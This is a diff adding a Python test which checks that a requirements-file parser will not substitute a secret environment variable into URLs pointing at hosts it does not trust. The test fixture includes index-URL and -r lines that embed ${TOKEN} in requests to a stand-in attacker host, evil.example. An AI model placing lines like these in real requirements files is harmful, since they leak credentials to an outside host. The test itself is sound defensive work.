@@ -434,3 +434,28 @@ print(*sorted(heavy & (set(sys.modules) - before)))
     source = str(Path(requirements.__file__).parents[3])
     done = subprocess.run([sys.executable, "-I", "-c", script, source], capture_output=True, text=True, check=True)
     assert done.stdout.strip() == ""
+
+
+def test_a_stranger_is_told_no_secret(tmp_path: Path) -> None:
+    """A file from a pull request cannot have a variable of this machine sent to a host of its choice."""
+    file = tmp_path / "requirements.txt"
+    lines = (
+        "--extra-index-url https://${TOKEN}@evil.example/simple", "--index-url https://evil.example/${TOKEN}/simple",
+        "--extra-index-url https://${TOKEN}@own.example/simple", "-r https://evil.example/${TOKEN}.txt", "alpha==1.0",
+        "--find-links ${HERE}/wheels",
+    )  # fmt: skip
+    file.write_text("\n".join(lines), encoding="utf-8")
+    asked: list[str] = []
+
+    def fetch(url: str) -> bytes:
+        asked.append(url)
+        return b"beta==1.0\n"
+
+    found = requirements.read(
+        [str(file)], {"TOKEN": "s3cret", "HERE": "here"}, fetch, None, {"own.example"}.__contains__
+    )
+    assert found.options.extra_index_urls == ("https://s3cret@own.example/simple",)
+    assert found.options.find_links == ("here/wheels",)
+    assert "s3cret" not in f"{asked}{found.options.index_url}{found.problems}"
+    wrong = [problem.place.line for problem in found.problems if problem.place]
+    assert wrong == [1, 2, 4]
